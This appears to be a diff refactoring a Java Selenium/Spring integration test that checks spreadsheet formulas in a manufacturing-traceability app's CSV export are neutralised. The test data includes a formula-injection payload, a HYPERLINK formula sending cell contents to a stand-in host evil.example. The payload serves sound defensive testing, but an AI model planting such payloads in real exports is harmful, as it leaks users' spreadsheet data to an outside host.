@@ -1,29 +1,23 @@
 package org.unitrace.core.dashboard;
 
 import static org.assertj.core.api.Assertions.assertThat;
+import static org.unitrace.core.support.Bodies.bomLine;
 
 import com.fasterxml.jackson.databind.JsonNode;
-import java.io.IOException;
 import java.time.Duration;
 import java.util.ArrayList;
 import java.util.List;
-import java.util.Map;
-import org.junit.jupiter.api.AfterAll;
-import org.junit.jupiter.api.BeforeAll;
+import org.junit.jupiter.api.AutoClose;
 import org.junit.jupiter.api.Test;
 import org.openqa.selenium.By;
 import org.openqa.selenium.chrome.ChromeDriver;
 import org.openqa.selenium.support.ui.ExpectedConditions;
 import org.openqa.selenium.support.ui.WebDriverWait;
 import org.springframework.boot.test.web.server.LocalServerPort;
-import org.springframework.http.HttpEntity;
-import org.springframework.http.HttpHeaders;
-import org.springframework.http.HttpMethod;
 import org.springframework.http.HttpStatus;
-import org.springframework.http.MediaType;
 import org.springframework.http.ResponseEntity;
-import org.unitrace.contract.EventCodec;
 import org.unitrace.core.imports.Csv;
+import org.unitrace.core.support.Bodies;
 import org.unitrace.core.support.Chromium;
 import org.unitrace.core.support.CoreITSupport;
 import org.unitrace.core.support.TestEvents;
@@ -39,21 +33,10 @@ class ExceptionsCsvBrowserIT extends CoreITSupport {
 
   private static final String HYPERLINK = "=HYPERLINK(\"http://evil.example/?d=\"&A1,\"Open\")";
 
-  private static ChromeDriver browser;
+  @AutoClose("quit")
+  private static final ChromeDriver browser = Chromium.start();
 
   @LocalServerPort int port;
-
-  @BeforeAll
-  static void startBrowser() throws IOException {
-    browser = Chromium.start();
-  }
-
-  @AfterAll
-  static void stopBrowser() {
-    if (browser != null) {
-      browser.quit();
-    }
-  }
 
   @Test
   void aFormulaInAFlaggedPartComesOutOfTheBrowsersCsvNeutralised() {
@@ -62,34 +45,15 @@ class ExceptionsCsvBrowserIT extends CoreITSupport {
     String unit = "-" + p + "-U1";
     String component = "+" + p + "-F1";
     ResponseEntity<JsonNode> bom =
-        http.exchange(
+        put(
             "/api/products/" + product + "/revisions/A",
-            HttpMethod.PUT,
-            new HttpEntity<>(
-                Map.of(
-                    "bom",
-                    List.of(
-                        Map.of(
-                            "position",
-                            "P1",
-                            "componentPartNumber",
-                            "PCB-12",
-                            "tracking",
-                            "SERIAL")))),
-            JsonNode.class);
+            Bodies.bom(bomLine("P1", "PCB-12", "SERIAL")));
     assertThat(bom.getStatusCode()).as(String.valueOf(bom.getBody())).isEqualTo(HttpStatus.OK);
     TestEvents events = new TestEvents(SITE, p, "edge-" + p);
-    EventCodec codec = new EventCodec();
-    HttpHeaders json = new HttpHeaders();
-    json.setContentType(MediaType.APPLICATION_JSON);
-    String batch =
-        "[%s,%s]"
-            .formatted(
-                codec.encodeToString(events.serialized(unit, product, "=1+2")),
-                codec.encodeToString(events.boundSerial(unit, HYPERLINK, component)));
-    http.postForEntity("/api/events", new HttpEntity<>(batch, json), JsonNode.class)
-        .getBody()
-        .forEach(r -> assertThat(r.path("status").asText()).isEqualTo("stored"));
+    postStored(
+        List.of(
+            events.serialized(unit, product, "=1+2"),
+            events.boundSerial(unit, HYPERLINK, component)));
     assertThat(http.getForObject("/api/exceptions?kind=WRONG_PART&serial=" + unit, JsonNode.class))
         .hasSize(1);
 
